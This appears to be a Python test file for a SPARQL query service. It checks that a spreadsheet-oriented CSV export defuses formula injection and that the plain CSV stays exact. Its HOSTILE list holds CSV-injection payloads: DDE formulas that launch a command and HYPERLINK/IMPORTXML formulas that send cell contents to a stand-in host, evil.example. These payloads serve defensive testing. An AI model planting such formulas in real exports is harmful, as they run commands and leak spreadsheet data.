"""What is opened in a spreadsheet calculates nothing, and the plain CSV stays exact."""

from __future__ import annotations

import csv
import io
import re

import pyoxigraph as ox
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from loader.results import run, write
from loader.results.spreadsheet import cell

BEGINNINGS = "=+-@＝＋－＠"
HOSTILE = [
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1), "//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "a\n=1+1",
    "a\r\n=1+1,b",
    "a;=1+1",
    'a";=1+1;"',
    'a","=1+1","',
    "a\t=1+1",
    "a |=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "'=1+1",
    '"=1+1',
    "＝1+1",
    "＠SUM(1)",
    "\x00=1+1",
    "\u2028=1+1",
    "=\n1",
    "; ; =1",
    ";;;=1",
]
TEXTS = st.text(st.sampled_from([*BEGINNINGS, *" ;|,\t\r\n'\"a1\u200b\u00a0\x00\ufeff\u2029"]), max_size=12)


def sheet(*texts: str) -> bytes:
    """The texts as one row, written for a spreadsheet."""
    terms = " ".join(str(ox.Literal(text)) for text in texts)
    names = " ".join(f"?v{n}" for n in range(len(texts)))
    out = io.BytesIO()
    write(run(ox.Store(), f"SELECT * {{ VALUES ({names}) {{ ({terms}) }} }}"), "spreadsheet", out)
    return out.getvalue()


def begins_a_formula(text: str) -> bool:
    """Whether any program might calculate a cell; what nobody sees before it is passed over."""
    return text.lstrip(' \t\r\n"\u00a0\u200b\u2029\u2028\u202e\x00\ufeff')[:1] in {*BEGINNINGS}


@pytest.mark.parametrize("text", HOSTILE)
def test_no_reading_of_the_file_finds_a_formula(text):
    written = sheet("before", text, "after").decode("utf-8-sig")
    for separator in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(written), delimiter=separator):
            assert not any(begins_a_formula(each) for each in row), separator
        naive = re.split(rf"[\r\n]+|{re.escape(separator)}", written) if separator != "," else []
        assert not any(begins_a_formula(each) for each in naive), separator


@given(TEXTS)
@example("='\"=")
def test_a_cell_begins_no_formula_and_is_cleaned_once(text):
    cleaned = cell(text)
    assert not any(begins_a_formula(part) for part in re.split("[;|\t\r\n]", cleaned))
    assert cell(cleaned) == cleaned


@given(st.text(st.characters(categories=["L", "N", "Zs"]), max_size=20))
def test_texts_that_are_no_formulas_stay_as_they_are(text):
    assert cell(text) == text
    assert cell(f"{text}, (a=b) - c + d@e") == f"{text}, (a=b) - c + d@e"


def test_it_is_read_back_as_csv_with_numbers_as_numbers():
    out = io.BytesIO()
    rows = '(-5 <http://e.example/a> "x\\"y, z"@en) (-1.5e3 UNDEF "-5")'
    query = f"SELECT ?a ?b ?c {{ VALUES (?a ?b ?c) {{ {rows} }} }}"
    write(run(ox.Store(), query), "spreadsheet", out)
    assert list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline=""))) == [
        ["a", "b", "c"],
        ["-5", "http://e.example/a", 'x"y, z'],
        ["-1500", "", "'-5"],
    ]


def test_a_number_that_is_none_is_a_text():
    out = io.BytesIO()
    write(
        run(
            ox.Store(), "SELECT ?a { BIND(STRDT('=1+1', <http://www.w3.org/2001/XMLSchema#integer>) AS ?a) }"
        ),
        "spreadsheet",
        out,
    )
    assert out.getvalue().endswith(b'"\'=1+1"\r\n')


def test_the_endpoint_sends_both_and_each_by_its_name(http):
    query = 'SELECT ("=1+1" AS ?a) {}'
    exact = http.get("/sparql", params={"query": query, "format": "csv"})
    sent = http.get("/sparql", params={"query": query, "format": "spreadsheet"})
    assert exact.text == "a\r\n=1+1\r\n"
    assert "content-disposition" not in exact.headers
    assert sent.content == '\ufeff"a"\r\n"\'=1+1"\r\n'.encode()
    assert sent.headers["content-type"] == "text/csv; charset=utf-8"
    assert sent.headers["content-disposition"] == 'attachment; filename="sparql.csv"'
    assert (
        http.get("/sparql", params={"query": query}, headers={"Accept": "text/csv"}).content == exact.content
    )


def test_every_saved_question_has_a_spreadsheet_of_the_same_rows(http):
    for name in ("statements", "meetings", "designation-status"):
        exact = list(csv.reader(io.StringIO(http.get(f"/queries/{name}.csv").text)))
        sent = http.get(f"/queries/{name}.spreadsheet")
        assert sent.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
        assert [[cell(each) for each in row] for row in exact] == list(
            csv.reader(io.StringIO(sent.content.decode("utf-8-sig"), newline=""))
        )
        assert (
            f'href="/queries/{name}.spreadsheet"'
            in http.get(f"/queries/{name}", headers={"Accept": "text/html"}).text
        )
